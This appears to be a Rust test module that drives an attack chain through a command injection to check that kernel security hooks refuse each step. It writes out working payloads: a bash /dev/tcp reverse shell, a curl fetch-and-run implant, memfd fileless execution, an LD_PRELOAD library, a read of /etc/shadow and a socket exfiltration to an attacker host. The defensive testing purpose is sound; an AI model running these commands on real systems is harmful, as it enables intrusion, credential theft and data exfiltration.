//! The chain: what a hole in the application is good for.
//!
//! Each attack goes through the same hole, a command injection, and is judged by its effect: what the attacker's
//! server received, or a file that only the attacker's code creates. Not by what the application answers.

use std::fs;
use std::path::Path;

use crate::stage::{HOME, SHELL_CATCHER, Stage, UPLOADS, WEB};

/// One step.
pub(crate) struct Attack {
    /// For the table.
    pub(crate) name: &'static str,
    /// Does it; the proof that it worked, or what happened instead.
    pub(crate) run: fn(&mut Stage) -> Result<String, String>,
    /// The hook that must refuse it, and what its event must be about.
    pub(crate) refused: (&'static str, &'static str),
}

/// The steps.
pub(crate) const CHAIN: &[Attack] = &[
    Attack { name: "reverse shell", run: reverse_shell, refused: ("bprm_check_security", "/usr/bin/bash") },
    Attack {
        name: "download and run a binary",
        run: download_and_run,
        refused: ("bprm_check_security", "/usr/bin/curl"),
    },
    Attack {
        name: "run from anonymous memory",
        run: run_from_memfd,
        refused: ("bprm_check_security", "memfd:implant"),
    },
    Attack { name: "LD_PRELOAD a dropped library", run: preload, refused: ("mmap_file", "evil.so") },
    Attack { name: "read /etc/shadow", run: read_shadow, refused: ("file_open", "/etc/shadow") },
    Attack { name: "call home", run: call_home, refused: ("socket_connect", "4445") },
];

/// `bash` with its standard input, output and error on a connection to the attacker.
fn reverse_shell(stage: &mut Stage) -> Result<String, String> {
    let before = stage.expect_shell();
    let answer =
        stage.inject(&format!("bash -c 'bash -i >& /dev/tcp/{} 0>&1'", SHELL_CATCHER.replace(':', "/")));
    // The shell multiplies; nobody else would know the answer.
    match stage.shell_said(before) {
        Some(text) if text.contains("shell-42") => Ok("the attacker has a shell".into()),
        Some(text) => Err(format!("the attacker's line says {text:?}")),
        None => Err(last_line(&answer)),
    }
}

fn download_and_run(stage: &mut Stage) -> Result<String, String> {
    let marker = format!("{UPLOADS}/downloaded-was-here");
    let implant = format!("{UPLOADS}/downloaded");
    let answer = stage.inject(&format!(
        "curl -s http://{WEB}/implant -o {implant} && chmod +x {implant} && {implant} open-create-any {marker}"
    ));
    proof(&marker, &answer)
}

/// The attacker's program arrives by the application's own upload form, and is never started from a file.
fn run_from_memfd(stage: &mut Stage) -> Result<String, String> {
    let marker = format!("{UPLOADS}/memory-was-here");
    stage.upload_implant("tool")?;
    let answer = stage.inject(&format!(
        "python3 -c \"import os; f = os.memfd_create('implant'); d = open('{UPLOADS}/tool', 'rb').read()\n\
         while d: d = d[os.write(f, d):]\n\
         os.execve(f, ['implant', 'open-create-any', '{marker}'], dict())\""
    ));
    proof(&marker, &answer)
}

fn preload(stage: &mut Stage) -> Result<String, String> {
    let marker = format!("{UPLOADS}/library-was-here");
    stage.upload("evil.so", &enforcer_vm_tests::shared_object::creating(&marker))?;
    let answer = stage.inject(&format!("LD_PRELOAD={UPLOADS}/evil.so wc -c /etc/ld.so.cache"));
    proof(&marker, &answer)
}

/// With nothing but the shell itself.
fn read_shadow(stage: &mut Stage) -> Result<String, String> {
    let answer = stage.inject("while read line; do echo \"$line\"; done < /etc/shadow");
    match answer.lines().find(|line| line.starts_with("root:")) {
        Some(line) => Ok(format!("the answer has {:?}…", line.chars().take(12).collect::<String>())),
        None => Err(last_line(&answer)),
    }
}

fn call_home(stage: &mut Stage) -> Result<String, String> {
    let before = stage.home();
    let (host, port) = HOME.split_once(':').unwrap_or((HOME, ""));
    let answer = stage.inject(&format!(
        "python3 -c \"import socket; socket.create_connection(('{host}', {port})).sendall(b'the customers file')\""
    ));
    match stage.home_bytes_after(before) {
        0 => Err(last_line(&answer)),
        bytes => Ok(format!("{bytes} bytes arrived at the attacker's server")),
    }
}

/// The file that only the attacker's code makes.
fn proof(marker: &str, answer: &str) -> Result<String, String> {
    if Path::new(marker).exists() {
        let _ = fs::remove_file(marker);
        Ok("the attacker's code ran".into())
    } else {
        Err(last_line(answer))
    }
}

/// How the shell put it.
fn last_line(answer: &str) -> String {
    answer.trim().lines().next_back().unwrap_or("no output").to_owned()
}
